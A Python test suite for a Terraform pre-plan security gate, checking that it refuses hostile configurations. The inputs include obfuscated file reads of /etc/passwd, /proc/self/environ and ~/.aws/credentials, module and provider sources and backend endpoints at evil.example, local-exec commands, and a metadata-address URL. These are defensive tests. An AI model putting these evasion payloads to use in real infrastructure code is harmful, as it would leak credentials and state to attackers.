"""The static gate: what may be planned is decided before anything runs."""

import pytest

from bot.clouds.registry import FACTS
from bot.core.checks.static_checks import GateRules, gate
from bot.core.tree import File
from bot.model.pipeline import Stack
from bot.model.static_check_rules import StaticCheckRules
from bot.names import StepName
from tests import ROOT
from tests.support.json_code import as_json

GOOD = b"""terraform {
  required_providers {
    aws = { source = "hashicorp/aws", version = "~> 5.100" }
  }
  backend "s3" {
    bucket = "x"
  }
}
provider "aws" {
  allowed_account_ids = [var.account_id]
}
variable "account_id" {
  type = string
}
resource "aws_ssm_parameter" "x" {
  value = file("${path.module}/x.txt")
}
data "aws_region" "here" {}
module "inside" {
  source = "./module"
}
resource "terraform_data" "x" {}
"""
APP = StepName("app")


def findings(code: bytes, *, path: str = "app/main.tf", rules: StaticCheckRules | None = None) -> list[str]:
    files = {"app/.terraform.lock.hcl": File(b""), "app/module/x.tf": File(b""), path: File(code)}
    return [
        str(finding) for finding in gate(files, {APP: Stack()}, GateRules(rules or StaticCheckRules(), FACTS), "envs/x")
    ]


def test_ordinary_code_passes() -> None:
    assert findings(GOOD) == []


def test_the_shipped_template_passes() -> None:
    root = ROOT / "envs" / "production"
    files = {
        p.relative_to(root).as_posix(): File(p.read_bytes())
        for p in root.rglob("*")
        if p.is_file() and ".terraform" not in p.parts
    }
    stacks = {StepName(path.split("/")[0]): Stack() for path in files if path.endswith(".tf")}
    complaints = [
        str(finding) for finding in gate(files, stacks, GateRules(StaticCheckRules(), FACTS), "envs/production")
    ]
    assert [c for c in complaints if ".terraform.lock.hcl" not in c] == []


RUNNING = [
    (b'data "external" "x" {\n  program = ["id"]\n}\n', 1, "hashicorp/external"),
    (b'data "http" "x" {\n  url = "http://x"\n}\n', 1, "runs or fetches"),
    (b'data "terraform_remote_state" "x" {}\n', 1, "fetches every secret of another state"),
    (b'resource "vault_mount" "x" {}\n', 1, "provider `hashicorp/vault`"),
    (b'resource "aws_x" "x" {\n  provisioner "local-exec" {\n    command = "id"\n  }\n}\n', 2, "declare a hook"),
    (b'resource "terraform_data" "x" {\n  provisioner "remote-exec" {}\n}\n', 2, "declare a hook"),
    (b'resource "aws_x" "x" {\n  connection {}\n}\n', 2, "declare a hook"),
    (b'module "x" {\n  source = "git::https://evil.example/x"\n}\n', 1, "gate.module_sources"),
    (b'module "x" {\n  source = "./../../../x"\n}\n', 1, "is not the directory of a module"),
    (b'module "x" {\n  source = "../../../../x"\n}\n', 1, "leaves the repository"),
    (b'module "x" {\n  source = "terraform-aws-modules/vpc/aws"\n}\n', 1, "gate.module_sources"),
    (b'terraform {\n  required_providers {\n    aws = { source = "evil/aws" }\n  }\n}\n', 2, "provider `evil/aws`"),
    (
        b'terraform {\n  required_providers {\n    aws = { source = "evil.example/hashicorp/aws" }\n  }\n}\n',
        2,
        "evil.example",
    ),
    (b'terraform {\n  backend "consul" {}\n}\n', 2, "backend `consul`"),
    (b"terraform {\n  cloud {\n    workspaces {\n      prefix = 1\n    }\n  }\n}\n", 3, "Write its `name`"),
    (b'provider "aws" {}\n', 1, "allowed_account_ids"),
    (b'locals {\n  n = []\n}\nprovider "aws" {\n  allowed_account_ids = local.n\n}\n', 4, "allowed_account_ids"),
    (b'provider "aws" {\n  allowed_account_ids = concat([])\n}\n', 1, "allowed_account_ids"),
    (b'provider "aws" {\n  allowed_account_ids = [1]\n  endpoints {\n    s3 = "x"\n  }\n}\n', 1, "`endpoints`"),
    (b'provider "aws" {\n  allowed_account_ids = [1]\n  access_key = "x"\n}\n', 1, "`access_key`"),
    (b'locals {\n  x = file("/proc/self/environ")\n}\n', 2, "`file` may read files of its own module"),
    (b'locals {\n  x = file("${path.module}/../../x")\n}\n', 2, "`file` may read files of its own module"),
    (b"locals {\n  x = upper(templatefile(var.x, {}))\n}\n", 2, "`templatefile` may read files of its own module"),
    (b'locals {\n  x = core::file("/etc/passwd")\n}\n', 2, "`core::file` may read files of its own module"),
    (b'locals {\n  x = provider::evil::run("x")\n}\n', 2, "is a provider's function"),
    (b'ephemeral "aws_x" "x" {}\ngadget "x" {}\n', 2, "`gadget` block"),
    (b'check "x" {\n  data "http" "x" {}\n}\n', 2, "runs or fetches"),
    (b"x = = 1\n", 1, "not HCL"),
    (
        b'terraform {\n  required_providers {\n    aws = {\n      # source = "hashicorp/aws"\n      source = "evil/evil"\n    }\n  }\n}\n',
        2,
        "provider `evil/evil`",
    ),
    (
        b'terraform {\n  required_providers {\n    aws = { /* source = "hashicorp/aws" */ source = "evil/evil" }\n  }\n}\n',
        2,
        "provider `evil/evil`",
    ),
    (
        b'terraform {\n  required_providers {\n    aws = { source = "hashicorp/aws", source = "evil/evil" }\n  }\n}\n',
        2,
        "not one plain text",
    ),
    (
        b'terraform {\n  required_providers {\n    aws = { source = "hashicorp/aws", "source" = "evil/evil" }\n  }\n}\n',
        2,
        "not one plain text",
    ),
    (
        b'removed {\n  from = aws_x.y\n  provisioner "local-exec" {\n    when = destroy\n  }\n}\n',
        3,
        "`provisioner` runs programs",
    ),
    (
        b'provider "aws" {\n  allowed_account_ids = ["1"]\n  assume_role {\n    role_arn = "x"\n  }\n}\n',
        1,
        "`assume_role` in a provider block",
    ),
    (
        b'provider "aws" {\n  allowed_account_ids        = ["1"]\n  skip_requesting_account_id = true\n}\n',
        1,
        "`skip_requesting_account_id`",
    ),
    (
        b'provider "aws" {\n  allowed_account_ids = ["1"]\n  shared_config_files = ["x"]\n}\n',
        1,
        "`shared_config_files`",
    ),
    (b'provider "aws" {\n  profile = "x"\n}\n', 1, "`profile`"),
    (
        b'terraform {\n  backend "s3" {\n    endpoints = { s3 = "http://evil.example" }\n  }\n}\n',
        2,
        "`endpoints` in a backend block",
    ),
    (
        b'locals {\n  x = file("${path.module}/" == "" ? "" : "/etc/passwd")\n}\n',
        2,
        "`file` may read files of its own module",
    ),
    (b'locals {\n  x = <<EOT\n${file("/etc/passwd")}\nEOT\n}\n', 3, "`file` may read files of its own module"),
    (
        b'locals {\n  x = <<-EOT\n  %{ if true }${core::templatefile("/x", {})}%{ endif }\n  EOT\n}\n',
        3,
        "`core::templatefile` may read files of its own module",
    ),
    (b'locals {\n  x = <<EOT\n${provider::evil::run("x")}\nEOT\n}\n', 3, "is a provider's function"),
    (b'data "aws_s3_object" "x" {\n  provider = evil.x\n}\n', 1, "provider `hashicorp/evil`"),
]
"""Code that runs or reads something while planning: the line, and what is said of it."""
NOT_IN_JSON = {"not HCL", "not one plain text"}
"""What is wrong with code as it is written, which JSON can't say."""


@pytest.mark.parametrize(("code", "line", "message"), RUNNING)
def test_code_that_runs_something_is_refused_with_its_line(code: bytes, line: int, message: str) -> None:
    found = findings(code)
    assert any(f"app/main.tf:{line}: " in finding and message in finding for finding in found), found


@pytest.mark.parametrize(("code", "line", "message"), [each for each in RUNNING if each[2] not in NOT_IN_JSON])
def test_what_runs_something_is_refused_in_json_as_well(code: bytes, line: int, message: str) -> None:
    found = findings(as_json(code), path="app/main.tf.json")
    assert any(message in finding for finding in found), (line, found)


def test_ordinary_code_passes_in_json() -> None:
    assert findings(as_json(GOOD), path="app/main.tf.json") == []


@pytest.mark.parametrize(
    ("path", "message"),
    [
        ("app/main.tofu", "only by OpenTofu"),
        ("app/main.tofu.json", "main.tf.json"),
        ("app/x_override.tf.json", "override files"),
        ("app/x_override.tf", "override files"),
        ("app/override.tf", "override files"),
        ("app/.terraformrc", "Terraform CLI configuration"),
        ("app/.terraform/x", "must not be committed"),
    ],
)
def test_files_that_change_the_rules_are_refused(path: str, message: str) -> None:
    assert any(message in finding for finding in findings(b"", path=path))


def test_code_below_a_nested_stack_is_held_against_what_that_stack_may_do() -> None:
    stack, rules = StepName("network/vpc"), GateRules(StaticCheckRules(), FACTS)
    lock = {f"{stack}/.terraform.lock.hcl": File(b"")}
    inside = b'locals {\n  x = file("${path.module}/../x.txt")\n}\n'
    code = {**lock, f"{stack}/main.tf": File(b""), f"{stack}/apart/main.tf": File(inside)}
    assert not gate(code, {stack: Stack()}, rules, "envs/x")
    [found] = gate({**code, "network/main.tf": File(inside)}, {stack: Stack()}, rules, "envs/x")
    assert str(found).startswith("envs/x/network/main.tf:2: ")
    [found] = gate({**code, "network/environment.yaml": File(b"")}, {stack: Stack()}, rules, "envs/x")
    assert "would be taken for those of another environment" in str(found)


def test_a_stack_without_a_lock_file_is_refused() -> None:
    assert "missing" in str(
        gate({"app/main.tf": File(GOOD)}, {APP: Stack()}, GateRules(StaticCheckRules(), FACTS), "envs/x")[0]
    )


def test_a_lock_file_that_can_not_be_read_is_refused_with_the_command_that_writes_another() -> None:
    [found] = findings(b"provider {{", path="app/.terraform.lock.hcl")
    assert found.startswith("envs/x/app/.terraform.lock.hcl:1: not HCL")
    assert "Remove the file, run `terraform init -backend=false`" in found


@pytest.mark.parametrize("hashes", ["", "  hashes = []\n", "  hashes = null\n"])
def test_a_lock_file_without_checksums_is_refused_with_the_line(hashes: str) -> None:
    """`terraform init` takes any package then, also with `-lockfile=readonly`, and only warns. Tried with 1.11.4."""
    lock = f'# Written by hand.\nprovider "registry.terraform.io/hashicorp/aws" {{\n  version = "5.100.0"\n{hashes}}}\n'
    [found] = findings(lock.encode(), path="app/.terraform.lock.hcl")
    assert found.startswith("envs/x/app/.terraform.lock.hcl:2: no checksum of `registry.terraform.io/hashicorp/aws`")


def test_the_policy_may_allow_more() -> None:
    rules = StaticCheckRules(
        providers=("hashicorp/aws", "hashicorp/null"),
        provisioners=True,
        module_sources=("terraform-aws-modules/vpc/aws",),
    )
    code = b'resource "null_resource" "x" {\n  provisioner "local-exec" {}\n}\nmodule "x" {\n  source = "terraform-aws-modules/vpc/aws"\n  version = "5.8.1"\n}\n'
    assert findings(code, rules=rules) == []


def many(**files: str) -> list[str]:
    """Return what is found in several files of a stack; `__` is a directory, the last `_` of a name its dot."""
    tree = {"app/.terraform.lock.hcl": File(b"")}
    for name, text in files.items():
        base, _, ending = name.rpartition("_")
        tree[f"app/{base.replace('__', '/')}.{ending}"] = File(text.encode())
    return [str(each) for each in gate(tree, {APP: Stack()}, GateRules(StaticCheckRules(), FACTS), "envs/x")]


@pytest.mark.parametrize(
    "value",
    [
        'file("x.txt")',
        'file("./a/x.txt")',
        'file("${path.module}/a/x.txt")',
        'file("${path.root}/x.txt")',
        'fileset(path.module, "*.json")',
        'fileset("${path.module}/a", "**/*.{json,yaml}")',
        '[for f in fileset("${path.module}/a", "*.json") : jsondecode(file("${path.module}/a/${f}"))]',
        '{ for f in toset(["a", "b"]) : f => filemd5("${path.module}/${f}.txt") }',
        'filebase64sha256("${path.module}/a..b.zip")',
    ],
)
def test_a_modules_own_files_may_be_read(value: str) -> None:
    assert many(main_tf=f"locals {{\n  x = {value}\n}}\n") == []


@pytest.mark.parametrize(
    "value",
    [
        'file("/etc/passwd")',
        'file("../x")',
        'file("a/../../x")',
        'file("~/.aws/credentials")',
        'file("${path.module}./x")',
        'file("${path.module}/a/${var.x}")',
        'file("${path.cwd}/x")',
        'file("${path.module}/.terraform/terraform.tfstate")',
        'file("${path.module}\\\\..\\\\x")',
        'file("\\u002fetc/passwd")',
        'file("\\u002e\\u002e/x")',
        "file(local.p)",
        'file(join("/", ["", "etc", "passwd"]))',
        'file(true ? "/etc/passwd" : "x")',
        'file(["/etc/passwd"]...)',
        "file(<<E\n/etc/passwd\nE\n)",
        'core :: file("/etc/passwd")',
        'file(\n"/etc/passwd"\n)',
        'file /* a */ ("/etc/passwd")',
        '"%{ if true }${file("/etc/passwd")}%{ endif }"',
        '"$$${"x"}${filesha256("/etc/passwd")}"',
        '{ (file("/etc/passwd")) = 1 }',
        'a[file("/etc/passwd")]',
        '[for k in file("/etc/passwd") : k]',
        '[for f in fileset(path.module, "*") : file("../${f}")]',
        '[for f in var.names : file("${path.module}/${f}")]',
        '[for each in var.names : file("${path.module}/${each.value}")]',
        'fileset("/proc", "*")',
        'fileset(path.module, "../*")',
        'fileset(path.module, "{.,x}{.,y}/*")',
        'fileset(path.module, ".{,x}./*")',
        'fileset(path.module, "{a/.,b}./*")',
        'fileset(path.module, ".{/x,y}/*")',
        'fileset(path.module, "{{.,a},b}./*")',
        'fileset(path.module, "[.][.]/*")',
        'fileset(path.module, "/etc/*")',
        "fileset(path.module, var.pattern)",
        'fileset([path.module, "../*"]...)',
        'templatestring(local.t, {})',
        'templatefile("../x.tftpl", {})',
        'templatefile("${path.module}/missing.tftpl", {})',
        '[for path in [{ module = "/etc" }] : file("${path.module}/passwd")]',
        '[for path in [{ module = "/etc/passwd" }] : file(path.module)]',
        '[for k, path in [{ root = "/etc" }] : [for f in ["passwd"] : file("${path.root}/${f}")]]',
        '[for path in [{ module = "/etc" }] : fileset(path.module, "pass*")]',
        '"%{ for path in [{ module = "/etc" }] }${file("${path.module}/passwd")}%{ endfor }"',
        '[for d in ["."] : file("${path.module}/.${d}/.${d}/etc/passwd")]',
        '[for d in ["."] : file("${path.module}/${d}${d}/etc/passwd")]',
        '[for d in [""] : file("${path.module}/.${d}./etc/passwd")]',
        '[for d in ["./etc"] : file("${path.module}/.${d}/passwd")]',
        '[for d in ["form"] : file("${path.module}/.terra${d}/terraform.tfstate")]',
    ],
)  # fmt: skip
def test_no_other_file_may_be_read_however_it_is_written(value: str) -> None:
    found = many(main_tf=f"locals {{\n  x = {value}\n}}\n")
    assert found, value
    assert all(each.startswith("envs/x/app/main.tf:") for each in found)


def test_files_named_by_a_bounded_for_each_may_be_read() -> None:
    code = 'resource "terraform_data" "x" {\n  for_each = fileset("${path.module}/a", "*.json")\n  input = file("${path.module}/a/${each.key}")\n}\n'
    assert many(main_tf=code) == []
    assert many(main_tf=code.replace('fileset("${path.module}/a", "*.json")', "var.names"))
    assert many(main_tf=code.replace('"*.json"', '"../*.json"'))


def test_an_iterator_that_is_called_each_hides_the_bounded_one() -> None:
    code = """resource "aws_security_group" "x" {
  for_each = toset(["a.txt"])
  dynamic "ingress" {
    for_each = ["/etc/passwd"]
    iterator = rule
    content {
      description = file(each.value)
    }
  }
}
"""
    assert many(main_tf=code) == []
    for name in ("each", "(each)"):
        found = many(main_tf=code.replace("iterator = rule", f"iterator = {name}"))
        assert [each.split(": ")[0] for each in found] == ["envs/x/app/main.tf:7"]


@pytest.mark.parametrize(
    "text",
    [
        '${file("${path.module}/passwd")}',
        "${file(path.module)}",
        '${join("", fileset(path.module, "*"))}',
    ],
)
def test_path_is_a_variable_like_others_in_a_template(text: str) -> None:
    main = 'locals {\n  x = templatefile("${path.module}/t.tftpl", { path = { module = "/etc" } })\n}\n'
    assert "envs/x/app/t.tftpl:1" in many(main_tf=main, t_tftpl=text)[0]


@pytest.mark.parametrize(
    ("collection", "is_looked_into"),
    [
        ('["notes.hcl"]', True),
        ('["other.tf"]', True),
        ('fileset(path.module, "*.hcl")', True),
        ('fileset(path.module, "{notes,x}.hcl")', True),
        ('fileset(path.module, "n*")', True),
        ('fileset(path.module, "*.tftpl")', False),
        ('["fine.tftpl"]', False),
    ],
)
def test_a_file_of_code_is_looked_into_if_a_name_may_mean_it(collection: str, *, is_looked_into: bool) -> None:
    main = f'locals {{\n  x = [for f in {collection} : templatefile("${{path.module}}/${{f}}", {{}})]\n}}\n'
    hidden = '# ${file("/etc/passwd")}\n'
    found = many(main_tf=main, other_tf=hidden, notes_hcl=hidden, fine_tftpl="fine")
    assert any(":1: `file` may read files of its own module" in each for each in found) == is_looked_into, found
    assert bool(found) == is_looked_into


def test_what_a_template_calls_is_looked_into_with_its_own_line() -> None:
    main = 'locals {\n  x = templatefile("${path.module}/t.tftpl", { a = 1 })\n}\n'
    assert many(main_tf=main, t_tftpl="Hello ${upper(a)} $${file(1)}\n") == []
    assert (
        "envs/x/app/t.tftpl:2: `file` may read files of its own module"
        in many(main_tf=main, t_tftpl='a\n${file("/etc/hostname")}')[0]
    )
    assert (
        "envs/x/app/t.tftpl:1: `file` may read files of its own module"
        in many(main_tf=main, t_tftpl="%{ if a }${file(a)}%{ endif }")[0]
    )
    assert "t.tftpl:1: a template can't call" in many(main_tf=main, t_tftpl='${templatefile("t.tftpl", {})}')[0]
    assert "t.tftpl:1: not HCL" in many(main_tf=main, t_tftpl="${")[0]


def test_every_template_that_a_bounded_name_may_mean_is_looked_into() -> None:
    main = (
        'locals {\n  x = [for f in fileset("${path.module}/t", "*") : templatefile("${path.module}/t/${f}", {})]\n}\n'
    )
    assert many(main_tf=main, t__a_tftpl="fine") == []
    assert "app/t/b.tftpl:1" in many(main_tf=main, t__a_tftpl="fine", t__b_tftpl='${file("/x")}')[0]


@pytest.mark.parametrize(
    ("code", "message"),
    [
        ('provider "aws" {\n  allowed_account_ids = [1]\n  dynamic "endpoints" {\n    for_each = [1]\n    content {\n      sts = "x"\n    }\n  }\n}\n', "`endpoints`"),
        ('provider "aws" {\n  allowed_account_ids = [1]\n  some_new_argument = 1\n}\n', "gate.provider_arguments"),
        ('provider "null" {\n  token = var.x\n}\n', "`gate.provider_arguments` for `hashicorp/null`"),
        ('provider "aws" {\n  allowed_account_ids = []\n}\n', "allowed_account_ids"),
        ('provider "aws" {\n  allowed_account_ids = null\n}\n', "allowed_account_ids"),
        ('provider "aws" {\n  allowed_account_ids = [1]\n  retry_mode = { endpoint = "x" }\n}\n', "`endpoint`"),
        ('terraform {\n  backend "s3" {\n    assume_role = { role_arn = "x" }\n  }\n}\n', "`assume_role` in a backend"),
        ('terraform {\n  backend "s3" {\n    dynamic "endpoints" {\n    }\n  }\n}\n', "`endpoints` in a backend"),
        ('terraform {\n  backend "local" {\n    path = "../other/terraform.tfstate"\n  }\n}\n', "local state"),
        ('terraform {\n  backend "local" {\n    path = "notes.json"\n  }\n}\n', 'write `path = "terraform.tfstate"`'),
        ('terraform {\n  backend "local" {\n    workspace_dir = "/x"\n  }\n}\n', "`workspace_dir`"),
        ('terraform {\n  backend "s3" {\n    acl = "public-read"\n  }\n}\n', "would let others read the state"),
        ('terraform {\n  backend "s3" {\n    acl = "public-${"read"}"\n  }\n}\n', "would let others read the state"),
        ('terraform {\n  backend "kubernetes" {\n    labels = { tfstateSecretSuffix = "production.app" }\n  }\n}\n', "how Terraform finds the state"),
        ('terraform {\n  backend "kubernetes" {\n    labels = { "tfstate\\u0057orkspace" = "x" }\n  }\n}\n', "how Terraform finds the state"),
        ('terraform {\n  backend "kubernetes" {\n    labels = { for k in ["tfstateSecretSuffix"] : k => "production.app" }\n  }\n}\n', "must be written out"),
        ('terraform {\n  provider_meta "aws" {}\n  state_store "x" {}\n}\n', "`state_store`"),
        ('terraform {\n  required_providers {\n    aws = merge({ source = "evil/aws" })\n  }\n}\n', "(not one plain text)"),
        ("terraform {\n  experiments = [x]\n}\n", "`experiments`"),
        ('data "terraform_\\u0072emote_state" "x" {}\n', "data source `terraform_remote_state`"),
        ('data "aws_s3_object" "x" {}\n', "gate.data_sources"),
        ('data "aws_secretsmanager_secret_version" "x" {}\n', "gate.data_sources"),
        ('data "aws_ssm_parameter" "x" {}\n', "gate.data_sources"),
        ('data "aws_lambda_invocation" "x" {}\n', "gate.data_sources"),
        ('data "aws_eks_cluster_auth" "x" {}\n', "gate.data_sources"),
        ('ephemeral "aws_secretsmanager_secret_version" "x" {}\n', "ephemeral resource"),
        ('check "x" {\n  data "aws_s3_object" "x" {}\n}\n', "gate.data_sources"),
        ('module "x" {\n  source = ".\\u002e/x"\n}\n', "is not the directory of a module"),
        ("module \"x\" {\n  source = var.x\n}\n", "must be plain text"),
        ('module "x" {\n  source = "../../../modules/logs"\n}\n', "is not the directory of a module"),
        ('import {\n  to = aws_x.y\n  id = "x"\n}\n', "takes over what exists"),
        ('resource "aws_s3_object" "x" {\n  source = "/etc/passwd"\n}\n', "`source` names a file"),
        ('resource "aws_gamelift_script" "x" {\n  zip_file = "/etc/passwd"\n}\n', "`zip_file` names a file"),
        ('resource "aws_lambda_function" "x" {\n  filename = "../../x.zip"\n}\n', "`filename` names a file"),
        ('resource "terraform_data" "x" {\n  dynamic "provisioner" {\n  }\n}\n', "`provisioner` runs programs"),
        ('module "x" {\n  source = "./module"\n  provisioner "local-exec" {\n  }\n}\n', "`provisioner` runs programs"),
        ('provider "aws" {\n  allowed_account_ids = [1]\n  default_tags {\n    provisioner "local-exec" {\n    }\n  }\n}\n', "`provisioner` runs programs"),
        ('provider "aws" {\n  allowed_account_ids = [1]\n  sts_region = "@host.example/#"\n}\n', "part of the address that credentials are sent to"),
        ('provider "aws" {\n  allowed_account_ids = [1]\n  sts_region = var.region\n}\n', "part of the address that credentials are sent to"),
        ('data "aws_ip_ranges" "x" {\n  services = ["s3"]\n  url      = "http://169.254.169.254/"\n}\n', "`url` says whom `aws_ip_ranges` asks"),
        ('check "x" {\n  data "aws_ip_ranges" "x" {\n    url = var.url\n  }\n}\n', "`url` says whom `aws_ip_ranges` asks"),
        ('ephemeral "terraform_remote_state" "x" {\n}\n', "ephemeral resource"),
        ('output "x" {\n  value = readanything("/etc/passwd")\n}\n', "have it added to the policy's `gate.functions`"),
        ('output "x" {\n  value = other::file("/etc/passwd")\n}\n', "is not known to be one of Terraform's functions"),
        ('x = file("/etc/passwd")\n', "stands outside any block"),
    ],
)  # fmt: skip
def test_only_what_is_known_to_be_harmless_is_allowed(code: str, message: str) -> None:
    assert any(message in finding for finding in findings(code.encode())), findings(code.encode())


def test_the_secrets_of_a_state_may_have_labels() -> None:
    code = b'terraform {\n  backend "kubernetes" {\n    labels = { team = "platform", "a.b/c" = "d" }\n  }\n}\n'
    assert findings(code) == []


def test_the_policy_names_what_else_may_be_read_run_or_imported() -> None:
    rules = StaticCheckRules(
        providers=("hashicorp/aws", "hashicorp/archive", "hashicorp/kubernetes"),
        data_sources=("aws_ssm_parameter", "archive_file", "aws_ip_ranges"),
        functions=("newer",),
        provider_arguments={"hashicorp/kubernetes": ("host",)},
        module_sources=("git::ssh://git@github.com/acme/tf-logs.git//log-group",),
        imports=True,
    )
    fine = """data "aws_ssm_parameter" "x" {}
data "aws_ip_ranges" "x" {
  url      = "https://ranges.example"
  services = [newer("s3")]
}
data "archive_file" "x" {
  source_dir  = "${path.module}/a"
  output_path = "${path.module}/a.zip"
}
resource "aws_lambda_function" "x" {
  filename = data.archive_file.x.output_path
}
provider "kubernetes" {
  host = "x"
}
module "x" {
  source = "git::ssh://git@github.com/acme/tf-logs.git//log-group?ref=v1.4.0"
}
import {
  for_each = var.kept
  to       = aws_x.y
  id       = "x"
}
"""
    assert findings(fine.encode(), rules=rules) == []
    for before, after, message in (
        ("?ref=v1.4.0", "", "not pinned"),
        ("?ref=v1.4.0", "?ref=", "not pinned"),
        ('"${path.module}/a"', '"/proc/self"', "`source_dir` names a file"),
        ('host = "x"', 'host = "x"\n  exec {\n    command = "id"\n  }', "`exec`"),
        ('host = "x"', 'host = { exec = "id" }', "`exec`"),
    ):
        assert any(message in each for each in findings(fine.replace(before, after).encode(), rules=rules)), message


@pytest.mark.parametrize(
    ("path", "message"),
    [
        ("app/terraform.d/plugins/registry.terraform.io/hashicorp/aws/5.100.0/linux_amd64/aws", "provider programs"),
        ("app/terraform.tfstate", "state must not be committed"),
        ("app/terraform.tfstate.backup", "state must not be committed"),
        ("app/terraform.tfstate.d/other/x", "state must not be committed"),
        ("app/.versions.tf", "begin with a dot"),
    ],
)
def test_a_file_that_terraform_takes_otherwise_is_refused_by_name(path: str, message: str) -> None:
    (found,) = findings(b"", path=path)
    assert found.startswith(f"envs/x/{path}:1: ")
    assert message.lower() in found.lower()


@pytest.mark.parametrize("place", ["app/x.tftest.hcl", "app/tests/x.tftest.hcl"])
@pytest.mark.parametrize("source", ["registry.example/acme/x/any", "./x", "../other"])
def test_a_test_has_init_install_no_module_that_nobody_looked_at(place: str, source: str) -> None:
    test = f'run "x" {{\n  module {{\n    source = "{source}"\n  }}\n}}\n'
    files = {"app/main.tf": File(b""), "app/.terraform.lock.hcl": File(b""), place: File(test.encode())}

    def told(files: dict[str, File]) -> list[str]:
        found = gate(files, {StepName("app"): Stack()}, GateRules(StaticCheckRules(), FACTS), "envs/x")
        return [f"{each.path}:{each.line}: {each.message}" for each in found]

    assert [each.partition(" that")[0] for each in told(files)] == [
        f"envs/x/{place}:2: `terraform init` installs the module"
    ]
    plain = File(b'run "x" {\n  assert {\n    condition     = true\n    error_message = "x"\n  }\n}\n')
    assert told({**files, place: plain}) == []
    # Of a module's own tests `init` of the stack reads nothing.
    del files[place]
    assert told({**files, f"app/module/{place.removeprefix('app/')}": File(test.encode())}) == []
    assert "tests in JSON are not allowed" in told({**files, place.replace(".hcl", ".json"): File(b"{}")})[0]
    assert "What can't be read is not run" in told({**files, place: File(b"run {")})[0]


@pytest.mark.parametrize("source", ["azure/azapi", "Azure/azapi", "registry.terraform.io/AZURE/AzAPI"])
@pytest.mark.parametrize("allowed", ["azure/azapi", "Azure/azapi"])
def test_a_provider_is_the_same_in_any_letters_and_so_are_its_rules(source: str, allowed: str) -> None:
    rules = StaticCheckRules(providers=("hashicorp/aws", allowed), provider_arguments={allowed: ("tenant_id",)})
    code = f'terraform {{\n  required_providers {{\n    azapi = {{ source = "{source}" }}\n  }}\n}}\nprovider "azapi" {{\n  tenant_id = "x"\n}}\n'
    assert findings(code.encode(), rules=rules) == []
    other = code.replace("tenant_id", "endpoint")
    assert "`endpoint` in a provider block" in findings(other.encode(), rules=rules)[0]
    aws = 'terraform {\n  required_providers {\n    aws = { source = "HashiCorp/AWS" }\n  }\n}\nprovider "aws" {}\n'
    assert "restricted to one account" in findings(aws.encode(), rules=rules)[0]
